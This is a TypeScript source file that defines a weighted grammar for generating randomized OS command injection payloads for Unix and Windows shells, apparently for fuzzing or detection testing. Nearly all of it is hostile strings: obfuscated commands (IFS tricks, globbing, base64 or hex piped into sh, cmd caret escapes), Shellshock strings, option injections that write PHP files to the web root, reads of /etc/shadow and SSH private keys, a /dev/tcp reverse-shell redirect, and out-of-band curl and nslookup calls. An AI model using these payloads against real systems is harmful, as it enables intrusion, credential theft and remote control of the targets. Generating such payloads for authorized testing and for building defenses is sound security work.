// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold "${" by nature
/** Operating-system command injection: a separator, a command, perhaps a disguise of its words. */

import { grammar, lines } from "../lib/grammar.ts";
import type { Random } from "../lib/random.ts";
import { SHELL, windowsCommand } from "./shell.ts";

const RULES = grammar({
  ...SHELL,
  start: [
    ["«base»«sep»«cmd»«tail»", 30],
    ["«base»«sep»«cmd»«sep»«base»", 3],
    ["«base»$(«cmd»)«tail?»", 6],
    ["«base»«bt»«cmd»«bt»", 6],
    ["«sep»«bt»«cmd»«bt»«tail?»", 2],
    ["«cmd»", 7],
    ["«sep»«look»«sep»", 2],
    ["«bt»«look»«bt»", 2],
    ["«disguised»", 12],
    ["«shellshock»", 3],
    ["«argument»", 4],
    ["«base»«sep»«sep»«cmd»«tail?»", 2],
    ["«polyglot»", 2],
    ["«redirect»", 2],
    ["«base»«sep»«short»«tail?»", 7],
    ["«bare»", 8],
    ["«base»«sep»«windisguised»«tail?»", 3],
    ["«base»«sep»«unixsyntax»«tail?»", 4],
  ],
  /** One or two words after a separator: the least that runs. */
  short: [
    ["«gtfo»", 6],
    ["«gtfo» «gtfofile»", 3],
    ["«gtfo» «gtfoflag»", 2],
    ["«lolbas»«lolext»", 4],
    ["«lolbas» «lolflag»", 2],
    ["«batchword» «lolfile»", 1],
    ["«psverb»-«psnoun»", 1],
    ["«psalias» «lolfile»", 0.5],
    ["«look»", 3],
  ],
  /** The whole value, or the whole name of a parameter, is a command. */
  bare: [
    ["«gtfo» «gtfofile»", 5],
    ["«gtfo» «gtfoflag» «gtfofile»", 5],
    ["«gtfotrick»", 5],
    ["«bin»«gtfo» «gtfoflag»", 2],
    ["«bin»«gtfo» «gtfofile»", 2],
    ["«unixsyntax»", 4],
    ["«loluse»", 6],
    ["«batch»", 6],
    ["«psone»", 3],
    ["«windisguised»", 2],
    ["«gtfouse» «;|&&|«pipe»|«pipe»«pipe»» «gtfouse»", 1],
  ],
  windisguised: (rng) => disguiseWindows(rng, windowsCommand(rng)),
  base: [
    "«»",
    "«»",
    "«»",
    "«int»",
    "«rnd»",
    "«noun»",
    "127.0.0.1",
    "«ip»",
    "localhost",
    "«host»",
    "«rnd».«ext»",
    "«small»",
    "x",
    "«email»",
    "«url»",
    "-«letter»",
  ],
  sep: [
    [";", 10],
    ["; ", 5],
    ["|", 8],
    [" | ", 3],
    ["||", 4],
    [" || ", 2],
    ["&&", 5],
    [" && ", 2],
    ["&", 5],
    [" & ", 1],
    ["\n", 4],
    ["%0a", 3],
    ["%0A", 1],
    ["\r\n", 2],
    ["%0d%0a", 1],
    ["';", 2],
    ['";', 2],
    ["'|", 1],
    ['"|', 1],
    ["'&&", 1],
    ['"&', 1],
    ["';\n", 0.5],
    [");", 1],
    ["'); ", 0.5],
    ["\\n", 1],
    ["%3b", 0.5],
    ["%7c", 0.5],
    ["%26", 0.5],
    ["|&", 0.5],
    [";;", 0.2],
    ["${IFS};", 0.4],
    ["a);", 0.6],
    ["a;", 0.6],
    ["a|", 0.5],
    [">|", 0.2],
    ["$;", 0.3],
    ["{;", 0.2],
    ["`", 0.5],
    ['<!--#exec cmd="', 0.1],
    ["/|", 0.3],
    ["\t;", 0.3],
    ["\u0000;", 0.2],
    ["^", 0.1],
    ["'\n", 0.4],
    ['"\n', 0.4],
    ["!", 0.2],
    ["%1a", 0.1],
  ],
  cmd: [
    ["«unix»", 12],
    ["«win»", 5],
  ],
  tail: [
    ["«»", 12],
    [";", 3],
    ["|", 2],
    ["#", 2],
    ["&", 2],
    [" #", 2],
    ["||", 1],
    [" ;", 1],
    [";#", 1],
    [" 2>&1", 1],
    [" 2>/dev/null", 1],
    ["'", 1],
    ['"', 1],
    ["`", 0.5],
    ["\n", 1],
    ["%0a", 1],
    ["%00", 1],
    ["&&", 0.5],
    [" || «rnd»", 0.5],
    [";«rnd»", 0.5],
    [" &", 1],
    [" \\n", 0.3],
    [" > /tmp/«rnd»", 1],
    ["|«read» «rnd»", 0.4],
    [" ; echo «int»", 0.5],
    ["${IFS}", 0.3],
    ["\\", 0.3],
    [";'", 0.5],
    [';"', 0.5],
    ["//", 0.2],
    ["%20", 0.3],
    ["' #", 0.4],
    ['" #', 0.4],
    [" -", 0.2],
  ],

  disguised: lines`
    «base»«sep»«splitcmd»«ifs»«splitfile»
    «base»«sep»«splitcmd»«ifs»«splitfile»
    «base»«sep»«splitcmd»
    «base»«sep»«globcmd»«ifs»«globfile»
    «base»«sep»«globcmd»«ifs»«globfile»
    «base»«sep»{«read»,«unixfile»}
    «base»«sep»{«tool»,-«letter»,«rnd»}
    «base»«sep»«read»<«unixfile»
    «base»«sep»«read»«ifs»«splitfile»
    «base»«sep»IFS=«,|];|_|]»;«v=letter»=«read»«,|_|]»«unixfile»;$«$v»
    «base»«sep»«v=letter»=«letter»;«w=letter»=«rnd»;$«$v»$«$w» «unixfile»
    «base»«sep»X=$'«read»\x20«unixfile»'&&$X
    «base»«sep»«v=rnd2»='«read»';$«$v» «unixfile»
    «base»«sep»$(echo «base64»|base64 -d)
    «base»«sep»$(printf '\«oct»\«oct»\«oct»')
    «base»«sep»$'\x«hex2»\x«hex2»\x«hex2»'
    «base»«sep»echo «hexlong»«hexlong»|xxd -r -p|sh
    «base»«sep»echo '«rnd»'|rev|sh
    «base»«sep»«winsplit»
    «base»«sep»$@«tool»«ifs»$@«unixfile»
    «base»«sep»«tool»«ifs»\${PATH:«digit»:«digit»}«rnd»
    «base»«sep»\${PATH%%u*}bin\${PATH%%u*}«tool»
    «base»«sep»\${«PATH|HOME|SHELL|PWD»:0:1}etc\${HOME:0:1}passwd
    «base»«sep»$(tr '[A-Y]' '[B-Z]'<<<«Rnd»)
    «base»«sep»$0<<<«rnd»
    «base»«sep»$(a="«Rnd»";printf %s "\${a,,}")
    «base»«sep»«tool»$u«ifs»«unixfile»
    «base»«sep»«bs»«letter»«bs»«letter» «unixfile»
    «base»«sep»/???/??«letter» /???/p?ss??
    «base»«sep»/«bin|usr/bin|usr/sbin»/«rnd2»?«letter»* «unixfile»
    «base»«sep»/[a-z][a-z][a-z]/«letter»?? /???/«rnd2»*
    «base»«sep»«tool»%20«unixfile»
    «base»«sep»«tool»%09«unixfile»
    «base»«sep»«tool»+«unixfile»
    «base»«sep»«read»\${IFS}«unixfile»
    «base»«sep»«tool»\${IFS}-«letter»\${IFS}«rnd»
    «base»«sep»«look»\${IFS}
    «base»«sep»(«read» «unixfile»)
    «base»«sep»{ «read» «unixfile»; }
    «base»«sep»eval«_»$(«tool» «rnd»)
    «base»«sep»«sh»«_»-c«_»«q»«unix»«q»
    «base»«sep»«sh»«_»-c«_»"«unix»"
    «base»«sep»«sh»<<<$(base64«ifs»-d<<<«base64»)
    «base»«sep»nice «unix»
    «base»«sep»env «tool» «unixfile»
    «base»«sep»xargs -I«letter» «tool»
    «base»«sep»if [ $(«look»|cut -c «small») == «letter» ]; then sleep «secs»; fi
    «base»«sep»for i in $(ls /); do host "$i.«host»"; done
    «base»«sep»«look»|while read l;do echo $l;done
    «base»«sep»exec«_»«tool» «toolarg»
    «base»«sep»time«_»«unix»
    «base»«sep»!«tool»
    «base»«sep»alias «rnd2»=«tool»`,
  oct: (rng) => rng.int(64, 127).toString(8),
  sh: ["sh", "bash", "/bin/sh", "/bin/bash", "zsh", "ksh", "dash", "/usr/bin/env bash", "cmd"],
  ifs: [
    "${IFS}",
    "${IFS}",
    "$IFS",
    "$IFS$9",
    "$IFS$«digit»",
    "\t",
    "%09",
    " ",
    "  ",
    "<",
    "${IFS%??}",
    "$IFS'",
    "{IFS}",
    "+",
    "%20",
    "${IFS}-",
    " -- ",
  ],
  splitcmd: (rng) => splitWord(rng, rng.pick(COMMANDS)),
  splitfile: (rng) =>
    splitWord(
      rng,
      rng.pick([
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/etc/issue",
        "/proc/version",
        "/root/.ssh/id_rsa",
      ]),
    ),
  globcmd: (rng) => globWord(rng, `/${rng.pick(["bin", "usr/bin"])}/${rng.pick(COMMANDS)}`),
  globfile: (rng) =>
    globWord(
      rng,
      rng.pick([
        "/etc/passwd",
        "/etc/shadow",
        "/etc/hosts",
        "/etc/group",
        "/etc/issue",
        "/home/user/.bashrc",
      ]),
    ),
  winsplit: [
    "^w^h^o^a^m^i",
    'w"h"o"am"i',
    "p^o^w^e^r^s^h^e^l^l -«letter» «base64»",
    "c^md /c dir",
    'n^e"t" user',
    "@^p^o^w^e^r^shell c:\\*\\*32\\c*?c.e?e",
    'cmd /V:ON /C "set «letter»=«rnd»&&!«letter»!"',
    "%ProgramFiles:~10,-5%«rnd»",
    "%ComSpec:~«int»,1%",
  ],

  shellshock: lines`
    () { :;}; «bincmd»
    () { :; }; «bincmd»
    () { «:|ignored|_|«rnd»|foo»;}«;|; |>|»echo «rnd»: «rnd»;«bincmd»
    () { _; } >_[$($())] { «bincmd»; }
    () { :;}; /bin/bash -c "«unix»"
    () { :;};echo;«bin»«tool» «toolarg»
    () { (a)=>\' «sh» -c "«unix»"
    () { x() { _;}; x() { _;} <<a; }
    () { :;}; echo "«rnd»:" $(«read» «unixfile»)`,
  bincmd: [
    '/bin/bash -c "«unix»"',
    "/bin/«tool» «toolarg»",
    "/usr/bin/«tool» «toolarg»",
    "echo; «unix»",
    "/bin/sleep «secs»",
    "/bin/cat /etc/passwd",
    "wget -O /tmp/«rnd» «url»",
  ],
  /** Options smuggled into a command that was to get a plain argument. */
  argument: lines`
    --«use-compress-program|checkpoint-action|output|exec|upload-pack|config|post-file|proxy-command|to-command|rsh|eval|wordlist»=«unix»
    -oProxyCommand=«unix»
    --checkpoint=1 --checkpoint-action=exec=«sh» «rnd».sh
    -o«_»/var/www/html/«rnd».php
    --upload-pack=«bt»«unix»«bt»
    -e "«unix»"
    -X«rnd»«_»/var/www/«rnd».php
    "|«unix»
    -exec «tool» {} \;
    ext::sh -c "«unix»"
    ssh://-oProxyCommand=«unix»/«rnd»
    "«email» -OQueueDirectory=/tmp -X/var/www/«rnd».php"
    («rnd») -be \${run{«bin»«tool»«_»«rnd»}{1}{1}}
    @«unixfile»
    =cmd|'/C «winlook»'!A0`,
  polyglot: lines`
    1;sleep\${IFS}«secs»;#\${IFS}';sleep\${IFS}«secs»;#\${IFS}";sleep\${IFS}«secs»;#\${IFS}
    /*$(sleep «secs»)\`sleep «secs»\`\`*/-sleep(«secs»)-'/*$(sleep «secs»)\`sleep «secs»\` #*/-sleep(«secs»)||'"||sleep(«secs»)||"/*\`*/
    «base»&nslookup «host»&'\\"\`0&nslookup «host»&\`'
    «base»|ping -n «secs» 127.0.0.1||\`ping -c «secs» 127.0.0.1\` #' |ping -n «secs» 127.0.0.1||\`ping -c «secs» 127.0.0.1\` #\" |ping -n «secs» 127.0.0.1
    echo «rnd»$()\ «rnd»\nz^xyu||a #' &echo «rnd»$()\ «rnd»\nz^xyu||a #|" &echo «rnd»$()\ «rnd»\nz^xyu||a #
    «base»'"\`0&echo $(«look»)
    ;«unix»;"«sep»«unix»;'«sep»«unix»;
    (nslookup -q=cname «rndmix».«host»||curl «rndmix».«host»)
    $(nslookup -q=cname «rndmix».«host»||curl «rndmix».«host»)
    &(nslookup -q=cname «rndmix».«host»||curl «rndmix».«host»)&'\"\`0&(nslookup -q=cname «rndmix».«host»||curl «rndmix».«host»)&\`'`,
  redirect: [
    "<«unixfile»",
    ">«unixfile»",
    "> /tmp/«rnd»",
    "«rnd» < «unixfile»",
    "2>&1",
    ">& /dev/tcp/«ip»/«port»",
    "<(«unix»)",
    "<<<«unixfile»",
    "«rnd»>>«unixfile»",
    "$((«int»*«int»))",
    "${«PATH|HOME|IFS|SHELL|«rnd»»}",
    "$(<«unixfile»)",
    "`<«unixfile»`",
    "<&«small»",
    "%0a«tool»%20«rnd»",
    "|«tool»",
    ";«tool»",
    "`«tool»`",
    "$(«tool»)",
    "&&«tool»",
    "||«tool»",
    "&«tool»",
  ],
});

const COMMANDS = [
  "cat",
  "ls",
  "id",
  "whoami",
  "uname",
  "wget",
  "curl",
  "ping",
  "nc",
  "bash",
  "python",
  "perl",
  "head",
  "tail",
  "more",
  "tac",
  "netstat",
  "ifconfig",
  "echo",
  "nslookup",
];

/** A word with quotes, backslashes or empty expansions in it, which the shell takes out again. */
function splitWord(rng: Random, word: string): string {
  const insert = rng.pick(["''", '""', "\\", "$@", "$*", "${x}", "``", "$()", "'", '"', "$u", "\\\n"]);
  if (insert === "'" || insert === '"')
    return [...word].map((c) => (rng.chance(0.5) ? insert + c + insert : c)).join("");
  return word[0] + [...word.slice(1)].map((c) => (rng.chance(0.45) ? insert + c : c)).join("");
}

/** A path with some of its letters left to the shell's globbing. */
function globWord(rng: Random, path: string): string {
  const share = rng.pick([0.3, 0.5, 0.8]);
  return path
    .replace(/[a-z]/g, (c) => (rng.chance(share) ? rng.pick(["?", "?", "?", `[${c}]`]) : c))
    .replace(/\w\?$/, rng.chance(0.3) ? "*" : "$&");
}

/** cmd.exe reads over carets and paired quotes, and no Windows shell minds the case. */
function disguiseWindows(rng: Random, command: string): string {
  const share = rng.pick([0.15, 0.4, 1]);
  const kind = rng.pick(["caret", "case", "quotes", "blanks", "upper"]);
  const each = (change: (c: string) => string) =>
    command.replace(/[a-z]/gi, (c) => (rng.chance(share) ? change(c) : c));
  switch (kind) {
    case "caret":
      return each((c) => `^${c}`);
    case "case":
      return each((c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase()));
    case "quotes":
      return command.replace(/^[\w.-]+/, (word) =>
        [...word].map((c) => (rng.chance(share) ? `"${c}"` : c)).join(""),
      );
    case "blanks":
      return command.replace(/ /g, () => rng.pick([" ", "  ", "\t", ",", ";", " ^ "]));
    default:
      return command.toUpperCase();
  }
}

/** A command injection for Unix or Windows. */
export function cmdi(rng: Random): string {
  let payload = RULES(rng);
  // A lone word such as "date" is no attack until something separates it from the victim's command.
  if (/^[\w-]*$/.test(payload)) payload = rng.pick([";", "|", "&&", "`", "$("]) + payload;
  return rng.chance(0.05) ? payload.replaceAll(" ", "${IFS}") : payload;
}
